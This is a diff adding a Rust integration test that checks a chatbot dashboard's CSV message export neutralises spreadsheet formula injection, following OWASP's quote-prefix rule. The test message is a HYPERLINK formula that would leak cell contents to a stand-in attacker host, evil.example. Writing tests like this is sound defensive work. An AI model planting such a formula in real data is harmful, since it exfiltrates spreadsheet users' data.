@@ -162,6 +162,27 @@ async fn the_flow_page_shows_the_funnel_of_real_journeys_with_downloads() {
 }
 
 #[tokio::test]
+async fn a_formula_typed_by_a_contact_downloads_as_text() {
+    let app = TestApp::spawn().await;
+    with_operator(&app).await;
+    let psid = "6910000000000002";
+    let formula = r#"=HYPERLINK("http://evil.example/?leak="&A1,"Click")"#;
+    let event = text_event(psid, "m_formula", formula);
+    assert_eq!(app.post_signed(&event).await.status(), 200);
+    app.wait_for_sent_to(psid, 1).await;
+    let cookie = session(&app).await;
+    let contact = app.store().await.find_contact(statbot_core::Platform::Messenger, psid).await.unwrap().unwrap();
+    let csv = page(&app, &cookie, &format!("/api/v1/contacts/{}/messages?format=csv", contact.id))
+        .await
+        .text()
+        .await
+        .unwrap();
+    // OWASP's rule: a cell that a spreadsheet would read as a formula starts with a quote mark.
+    let cell = r#""'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")""#;
+    assert!(csv.contains(&format!(",in,{cell},")), "{csv}");
+}
+
+#[tokio::test]
 async fn contacts_and_their_conversation_then_logout() {
     let app = TestApp::spawn().await;
     with_operator(&app).await;
